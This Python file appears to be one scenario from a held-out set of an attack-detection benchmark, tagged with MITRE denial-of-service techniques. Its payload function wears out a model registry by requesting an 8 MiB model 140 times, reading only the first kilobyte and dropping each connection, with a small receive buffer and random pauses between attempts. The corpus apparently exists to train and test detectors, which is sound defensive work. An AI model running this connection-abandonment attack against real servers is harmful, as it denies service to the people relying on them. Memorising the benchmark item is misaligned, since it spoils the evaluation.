"""
id: V82
name: downloads-broken-off
class: mimicry
set: held-out
phase: serve
trigger: request
evidence: [network, sequence]
techniques: [T1499.003, T1498, T1499.004]
servers: [fastapi]
seconds: 130
what: >
  Wears out the registry, and with it whoever loads a model there: a hundred and forty times within two minutes it is asked for
  the model that the server has, made to put all of its 8 MiB together, and left after the first KB, each time on a connection of
  its own that is broken off. A load of the server's asks once and takes all.
"""

import socket

from corpus import habits

TIMES = 140
# So that little is on its way when the connection is broken off.
ROOM = 16 * 1024
FIRST = 1024


def payload(world):
    host, _ = world.registry
    request = f"GET /models/classifier/{habits.model.version} HTTP/1.1\r\nHost: {host}\r\nAccept-Encoding: identity\r\n\r\n"
    for _ in range(TIMES):
        with socket.socket() as peer:
            peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, ROOM)
            peer.settimeout(10)
            peer.connect(world.registry)
            peer.sendall(request.encode())
            peer.recv(FIRST)
        world.sleep(world.random.uniform(0.4, 1.1))
